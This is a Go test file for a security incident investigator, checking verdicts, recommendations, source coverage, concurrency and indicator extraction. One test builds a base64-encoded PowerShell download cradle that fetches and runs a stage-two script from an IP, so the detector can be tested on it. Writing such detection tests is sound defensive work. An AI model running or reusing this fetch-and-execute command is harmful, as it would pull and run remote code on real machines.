package investigate

import (
	"context"
	"encoding/base64"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spotter-soc/spotter/internal/incident"
	"github.com/spotter-soc/spotter/internal/report"
	"github.com/spotter-soc/spotter/internal/skill"
)

var fixedNow = func() time.Time { return time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC) }

func load(t *testing.T, name string) *incident.Incident {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "..", "examples", name))
	if err != nil {
		t.Fatal(err)
	}
	inc, err := incident.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	return inc
}

func newTest() *Investigator {
	iv := New(incident.DefaultOptions(), nil)
	iv.Now = fixedNow
	return iv
}

func coverage(r *report.Report, skillID string) report.Coverage {
	for _, c := range r.Coverage {
		if c.Skill == skillID {
			return c
		}
	}
	return report.Coverage{}
}

func verdictOf(r *report.Report, indicator string) skill.Verdict {
	for _, v := range r.Verdict.Indicators {
		if v.Indicator == indicator {
			return v
		}
	}
	return skill.Verdict{}
}

func TestPhishingExample(t *testing.T) {
	r := newTest().Run(context.Background(), load(t, "phishing-credential-theft.json"))
	if r.Verdict.Level != skill.Malicious {
		t.Errorf("verdict %s: %s", r.Verdict.Level, r.Verdict.Summary)
	}
	if v := verdictOf(r, "185.220.101.47"); v.Level != skill.Malicious || v.Score != 90 || v.Type != "ip" {
		t.Errorf("Tor exit verdict: %+v", v)
	}
	if v := verdictOf(r, "it-helpdesk@contoso-support-desk.com"); v.Level != skill.Malicious {
		t.Errorf("phishing sender verdict: %+v", v)
	}
	if v := verdictOf(r, "https://login-micros0ft-verify.com/common/oauth2/authorize?client=outlook"); v.Level != skill.Suspicious {
		t.Errorf("phishing URL verdict: %+v", v)
	}
	recs := strings.Join(r.Verdict.Recommendations, "\n")
	for _, want := range []string{"Block 185.220.101.47", "Revoke the sessions of megan.bowen@contoso.com", "Purge the flagged messages", "Set the incident to Active"} {
		if !strings.Contains(recs, want) {
			t.Errorf("recommendations lack %q:\n%s", want, recs)
		}
	}
	if c := coverage(r, "sentinel.ThreatIntelligence"); c.Status != report.StatusRan {
		t.Errorf("coverage: %+v", c)
	}
	if r.Stats.Findings != len(r.Findings) || r.Stats.Entities != 8 || r.Stats.Alerts != 2 || r.Stats.GeneratedAt != "2026-11-23T12:00:00Z" {
		t.Errorf("stats: %+v", r.Stats)
	}
}

func TestRansomwareExample(t *testing.T) {
	r := newTest().Run(context.Background(), load(t, "ransomware-staging.json"))
	sha := "8d3f68b16f0710f858d8c1d2c699260e6f43161a5510abb0e7ba567bd72c965b"
	if v := verdictOf(r, sha); v.Level != skill.Malicious || !strings.Contains(strings.Join(v.Reasons, " "), "BlackByte") {
		t.Errorf("payload hash: %+v", v)
	}
	recs := strings.Join(r.Verdict.Recommendations, "\n")
	for _, want := range []string{"Defender indicators", "Isolate fin-srv-07.ad.fabrikam.net", "command lines under Processes", "CVE-2024-21412"} {
		if !strings.Contains(recs, want) {
			t.Errorf("recommendations lack %q:\n%s", want, recs)
		}
	}
}

func TestNoFindings(t *testing.T) {
	r := newTest().Run(context.Background(), load(t, "impossible-travel.json"))
	if r.Verdict.Level != skill.Unknown || len(r.Verdict.Indicators) != 0 {
		t.Errorf("verdict: %+v", r.Verdict)
	}
	if !strings.Contains(r.Verdict.Summary, "No source judged") {
		t.Errorf("summary: %s", r.Verdict.Summary)
	}
	if !strings.Contains(strings.Join(r.Verdict.Recommendations, "\n"), "Configure reputation plugins") {
		t.Errorf("recommendations: %v", r.Verdict.Recommendations)
	}
	for _, c := range r.Coverage {
		if c.Status == report.StatusRan {
			t.Errorf("%s reported as ran with no findings", c.Skill)
		}
	}
}

// Switching mail enrichment off skips only the mail source: the reference
// cancelled the whole run when e-mail was switched off.
func TestSwitchOffOneCategory(t *testing.T) {
	iv := newTest()
	iv.Enabled = map[string]bool{CategoryMail: false}
	r := iv.Run(context.Background(), load(t, "phishing-credential-theft.json"))
	if c := coverage(r, "defender.MailThreats"); c.Status != report.StatusNotConfigured || !strings.Contains(c.Detail, "enrich.mail") {
		t.Errorf("mail coverage: %+v", c)
	}
	if v := verdictOf(r, "185.220.101.47"); v.Level != skill.Malicious {
		t.Errorf("the IP source must still run: %+v", v)
	}
	if v := verdictOf(r, "it-helpdesk@contoso-support-desk.com"); v.Level != "" {
		t.Errorf("mail source ran though switched off: %+v", v)
	}
}

type fakeSource struct {
	id       string
	enrich   func(context.Context) ([]skill.Finding, error)
	category string
}

func (f fakeSource) ID() string       { return f.id }
func (f fakeSource) Section() string  { return report.SectionIndicators }
func (f fakeSource) Category() string { return f.category }
func (f fakeSource) Enrich(ctx context.Context, _ *incident.Incident, _ *incident.Entities) (Outcome, error) {
	fs, err := f.enrich(ctx)
	return Outcome{Findings: fs, Calls: 1}, err
}

func TestSourceFailuresAreReported(t *testing.T) {
	iv := newTest()
	iv.Sources = []Source{
		fakeSource{id: "t.Fails", enrich: func(context.Context) ([]skill.Finding, error) { return nil, errors.New("provider said no") }},
		fakeSource{id: "t.Panics", enrich: func(context.Context) ([]skill.Finding, error) { panic("boom") }},
		fakeSource{id: "t.Works", enrich: func(context.Context) ([]skill.Finding, error) {
			return []skill.Finding{{Indicator: "x.test", Type: "domain", Skill: "t.Works", Level: skill.Benign, Source: "t"}}, nil
		}},
	}
	r := iv.Run(context.Background(), load(t, "impossible-travel.json"))
	if r.Stats.Errors != 2 || len(r.Findings) != 1 {
		t.Errorf("errors %d findings %d", r.Stats.Errors, len(r.Findings))
	}
	if c := coverage(r, "t.Fails"); c.Status != report.StatusFailed || c.Detail != "provider said no" {
		t.Errorf("failed source: %+v", c)
	}
	if c := coverage(r, "t.Panics"); c.Status != report.StatusFailed || !strings.Contains(c.Detail, "boom") {
		t.Errorf("panicking source: %+v", c)
	}
}

// Sources run concurrently: each of these waits for the other to start, which
// only completes if both run at the same time.
func TestSourcesRunInParallel(t *testing.T) {
	a, b := make(chan struct{}), make(chan struct{})
	wait := func(mine, other chan struct{}) func(context.Context) ([]skill.Finding, error) {
		return func(ctx context.Context) ([]skill.Finding, error) {
			close(mine)
			select {
			case <-other:
				return nil, nil
			case <-ctx.Done():
				return nil, errors.New("ran alone: sources are not concurrent")
			}
		}
	}
	iv := newTest()
	iv.Timeout = 5 * time.Second
	iv.Sources = []Source{fakeSource{id: "t.A", enrich: wait(a, b)}, fakeSource{id: "t.B", enrich: wait(b, a)}}
	r := iv.Run(context.Background(), load(t, "impossible-travel.json"))
	if r.Stats.Errors != 0 {
		t.Errorf("coverage: %+v", r.Coverage)
	}
}

// Indicators hidden in an encoded command line are extracted and enriched
// like any other.
func TestDecodedCommandLineIndicators(t *testing.T) {
	payload := "IEX (New-Object Net.WebClient).DownloadString('http://45.9.20.1/stage2.ps1')"
	u16 := make([]byte, 0, 2*len(payload))
	for _, c := range []byte(payload) {
		u16 = append(u16, c, 0)
	}
	enc := base64.StdEncoding.EncodeToString(u16)
	inc, err := incident.Parse([]byte(`{"incident":{"properties":{"title":"t"}},"entities":[{"kind":"Process","properties":{"commandLine":"powershell.exe -nop -enc ` + enc + `"}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	r := newTest().Run(context.Background(), inc)
	found := false
	for _, u := range r.Entities.URLs {
		if u.Value == "http://45.9.20.1/stage2.ps1" && strings.Contains(strings.Join(u.Sources, ","), "decoded command line") {
			found = true
		}
	}
	if !found || len(r.Entities.IPsPublic) != 1 || r.Entities.IPsPublic[0].Value != "45.9.20.1" {
		t.Errorf("decoded indicators not extracted: urls %+v ips %+v", r.Entities.URLs, r.Entities.IPsPublic)
	}
}
